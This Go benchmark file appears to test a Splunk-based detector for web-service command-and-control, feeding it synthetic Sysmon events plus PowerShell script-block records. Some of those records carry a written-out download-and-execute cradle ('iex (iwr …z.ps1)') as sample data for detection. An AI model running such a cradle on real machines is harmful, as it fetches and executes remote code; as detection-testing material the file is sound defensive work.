package correlate_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/t1102app/t1102/src/splunkd"
)

// withScriptBlocks turns one event in ten of synthEvents into a PowerShell
// script block (4104) of about 1 KB from one of the processes, one block
// in twenty naming a catalogued service: script block logging beside
// Sysmon, at a rate a fleet with it turned on shows.
func withScriptBlocks(t *splunkd.Table) *splunkd.Table {
	out := &splunkd.Table{Fields: append(append([]string{}, t.Fields...), "ScriptBlockText", "ScriptBlockId", "MessageNumber", "MessageTotal", "ProcessID")}
	code, host := t.Column("EventCode"), t.Column("host")
	body := strings.Repeat("Get-ChildItem -Path $env:ProgramData -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf\n", 9)
	for i, r := range t.Rows {
		row := append(append([]splunkd.Value{}, r...), nil, nil, nil, nil, nil)
		if i%10 == 5 {
			text := body
			if i%200 == 5 {
				text += "iex (iwr https://raw.githubusercontent.com/x/y/main/z.ps1)\n"
			}
			nr := make([]splunkd.Value, len(out.Fields))
			nr[t.Column("_time")], nr[host] = row[t.Column("_time")], row[host]
			nr[code] = splunkd.Value{"4104"}
			n := len(t.Fields)
			nr[n], nr[n+1], nr[n+2], nr[n+3], nr[n+4] = splunkd.Value{text}, splunkd.Value{fmt.Sprintf("{%08x-0000-4000-8000-000000000000}", i)},
				splunkd.Value{"1"}, splunkd.Value{"1"}, splunkd.Value{fmt.Sprint(1000 + i%3000)}
			row = nr
		}
		out.Rows = append(out.Rows, row)
	}
	return out
}

// BenchmarkScriptBlocks: t1102correlate's events/s on 1,000,000 events,
// Sysmon only and with one in ten a script block, alternated (-count).
func BenchmarkScriptBlocks(b *testing.B) {
	sysmon := synthEvents(1_000_000, 20_000)
	inputs := []struct {
		name string
		t    *splunkd.Table
	}{{"sysmon", sysmon}, {"with-scriptblocks", withScriptBlocks(sysmon)}}
	for _, in := range inputs {
		b.Run(in.name, func(b *testing.B) {
			var reducePeak int64
			for b.Loop() {
				res, err := splunkd.Run(context.Background(), splunkd.Search{
					Argv: argv, Args: []string{"all=true"}, Input: in.t, Indexers: 3, ChunkRows: 10_000, Probes: -1, Timeout: 5 * time.Minute,
				})
				if err != nil {
					b.Fatal(err)
				}
				_, r := peaks(res)
				reducePeak = max(reducePeak, r)
			}
			b.ReportMetric(float64(b.N)*1_000_000/b.Elapsed().Seconds(), "events/s")
			b.ReportMetric(float64(reducePeak)/(1<<20), "reduce-peak-MiB")
		})
	}
}
